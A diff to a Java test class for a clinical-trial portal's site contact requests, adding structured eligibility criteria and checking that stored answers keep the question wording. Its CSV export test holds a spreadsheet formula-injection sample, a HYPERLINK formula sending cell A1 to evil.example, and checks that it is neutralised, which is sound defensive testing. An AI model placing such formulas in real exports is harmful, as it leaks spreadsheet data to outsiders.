@@ -49,7 +49,9 @@ class SiteRequestsTest {
   void setUp() {
     db = new TestDatabase();
     db.inTransaction(em -> {
-      new JpaTrialRepository(em).add(MisleDemoTrial.trial());
+      var trial = MisleDemoTrial.trial();
+      trial.structureCriteria(demoCriteria());
+      new JpaTrialRepository(em).add(trial);
       MisleDemoTrial.sites().forEach(new JpaSiteRepository(em)::add);
     });
     db.inTransaction(em -> {
@@ -85,7 +87,7 @@ class SiteRequestsTest {
     assertThat(ana.preferredTime()).isEqualTo("MORNING");
     assertThat(ana.verdict()).isEqualTo("LIKELY_ELIGIBLE");
     assertThat(ana.consentVersion()).isEqualTo(ContactRequests.CONSENT_VERSION);
-    assertThat(ana.answers()).containsExactly("age: 34");
+    assertThat(ana.answers()).as("the question in the words the visitor read").containsExactly("How old are you? 34");
     assertThat(ana.status()).isEqualTo(RequestStatus.NEW);
     assertThat(ana.receivedAt()).isEqualTo(CLOCK.instant());
     assertThat(list.requests()).extracting(RequestView::name).doesNotContain("Bea Charleston");
@@ -153,7 +155,7 @@ class SiteRequestsTest {
     assertThat(csv).startsWith("\"reference\",\"trial\",\"site\",\"kind\",\"status\"");
     assertThat(csv.split("\r\n")).hasSize(3);
     assertThat(csv).contains("\"Ana Testperson\"", "\"'+1 310-555-0100\"", "\"ana@example.org\"",
-        "\"'=HYPERLINK(\"\"https://evil.example/?x=\"\"&A1,\"\"Call\"\")\"", "\"'-1 555 0100\"", "\"age: =1+1\"")
+        "\"'=HYPERLINK(\"\"https://evil.example/?x=\"\"&A1,\"\"Call\"\")\"", "\"'-1 555 0100\"", "\"How old are you? =1+1\"")
         .doesNotContain("Bea Charleston", ",\"=HYPERLINK", ",\"+1", ",\"-1");
     assertThat(audit(new AuditFilter("cedars.test", AuditAction.EXPORT, null, null, null))).singleElement()
         .satisfies(e -> assertThat(e.newValue()).isEqualTo("2 requests of NCT02633163/cedars-sinai"));
@@ -216,7 +218,16 @@ class SiteRequestsTest {
     var trail = AuditFixtures.trail(em, username, CLOCK);
     var caller = AuditFixtures.caller(em, username);
     return new SiteRequestsService(em, new SiteAccess(new JpaSiteRepository(em), caller, trail),
-        new JpaContactRequestRepository(em), cipher, trail, CLOCK);
+        new JpaContactRequestRepository(em), cipher, trail, CLOCK,
+        new org.opentrials.portal.services.persistence.JpaTrialRepository(em));
+  }
+
+  private static String demoCriteria() {
+    try (var in = SiteRequestsTest.class.getResourceAsStream("/demo/criteria/NCT02633163.json")) {
+      return new String(in.readAllBytes(), java.nio.charset.StandardCharsets.UTF_8);
+    } catch (java.io.IOException e) {
+      throw new java.io.UncheckedIOException(e);
+    }
   }
 
   private static Long siteId(EntityManager em, String slug) {
